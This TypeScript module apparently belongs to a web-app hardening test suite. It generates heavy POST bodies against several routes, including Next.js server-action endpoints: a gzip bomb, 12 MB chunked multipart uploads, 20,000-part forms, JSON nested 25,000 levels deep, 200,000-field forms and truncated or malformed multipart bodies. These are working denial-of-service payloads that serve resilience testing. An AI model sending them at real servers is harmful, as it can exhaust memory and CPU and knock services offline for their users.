import { gzipSync } from "node:zlib";
import type { Attack } from "./attacks";

const MULTIPART = { "content-type": "multipart/form-data; boundary=b" };
const FORM = { "content-type": "application/x-www-form-urlencoded" };
const JSON_TYPE = { "content-type": "application/json" };
const CHUNKED = { "transfer-encoding": "chunked" };

const DOORS = ["/", "/petugas/masuk", "/layanan/nib/ajukan/simpan", "/api/uploadthing", "/api/unggah", "/api/ingest/x"];
const part = (name: string, value: string) =>
  `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
const deep = (open: string, levels: number, middle: string, close: string) =>
  `${open.repeat(levels)}${middle}${close.repeat(levels)}`;

/** Few, but heavy: too long without saying how long, folded, nested, in a thousand pieces, cut off; at so many doors, in turn. */
export function heavyBodies(actionId: string, origin: string, many: number, seed: number): Attack[] {
  const doors = Array.from({ length: many }, (_, turn) => DOORS[(seed + turn) % DOORS.length] ?? "/");
  const long = `${part("x", "x".repeat(12_000_000))}--b--\r\n`;
  const pieces = `${Array.from({ length: 20_000 }, (_, index) => part(`f${index}`, "x")).join("")}--b--\r\n`;
  const same = `${part("0", "[]").repeat(5_000)}--b--\r\n`;
  const folded = gzipSync(Buffer.alloc(20_000_000, 0x61));
  const post = (how: string, path: string, headers: Record<string, string>, body: string | Buffer): Attack => ({
    how: `${how} to ${path}`,
    path,
    method: "POST",
    body,
    headers: { origin, ...headers },
  });
  const called = { "next-action": actionId, ...MULTIPART };
  return doors.flatMap((path) => [
    post("12 MB that do not say how long they are", path, { ...MULTIPART, ...CHUNKED }, long),
    post("20,000 pieces", path, MULTIPART, pieces),
    post("one piece 5,000 times", path, called, same),
    post("20 MB folded to a few", path, { ...MULTIPART, "content-encoding": "gzip" }, folded),
    post("JSON folded", path, { ...JSON_TYPE, "content-encoding": "gzip" }, gzipSync("{}")),
    post("lists in lists", path, JSON_TYPE, deep("[", 25_000, "", "]")),
    post("objects in objects", path, JSON_TYPE, deep('{"input":', 5_000, "0", "}")),
    post(
      "the state of a form, nested",
      path,
      called,
      `${part("0", `[${deep('{"a":', 20_000, "0", "}")},"$K1"]`)}--b--\r\n`,
    ),
    post("200,000 fields", path, FORM, "a=1&".repeat(200_000)),
    post("one field of 3 MB", path, FORM, `activity=${"%41".repeat(1_000_000)}`),
    post("cut off in the middle", path, MULTIPART, `${part("x", "y")}--b\r\nContent-Disposition: form-da`),
    post("a type that says nothing", path, { "content-type": 'multipart/form-data; boundary="' }, "--\r\n"),
    post(
      "pieces in UTF-16",
      path,
      { "content-type": "multipart/form-data; boundary=b; charset=utf-16" },
      same.slice(0, 400),
    ),
  ]);
}
